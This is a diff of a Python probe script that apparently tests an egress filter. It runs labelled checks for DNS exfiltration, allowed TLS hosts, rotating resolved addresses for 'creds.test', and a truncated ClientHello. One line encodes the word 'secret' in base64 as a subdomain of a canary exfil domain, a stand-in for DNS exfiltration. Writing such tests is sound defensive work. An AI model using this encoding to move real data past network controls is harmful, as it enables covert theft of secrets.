@@ -105,6 +105,9 @@ def main():
     out("dns_exfil", **dns(1, "c2VjcmV0.exfil.canary.test"))
     out("allowed_by_dns", text=status(tls_get("api.test", 443, "api.test",
                                               "api.test")))
+    addrs = sorted({a[4][0] for a in socket.getaddrinfo("creds.test", 443, socket.AF_INET)})
+    out("rotating", addrs=addrs,
+        text=status(tls_get(addrs[0], 443, "creds.test", "creds.test", "/allowed/rotating")))
     with socket.create_connection((UP, 443), timeout=15) as s:  # a ClientHello cut short
         start = time.time()
         s.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
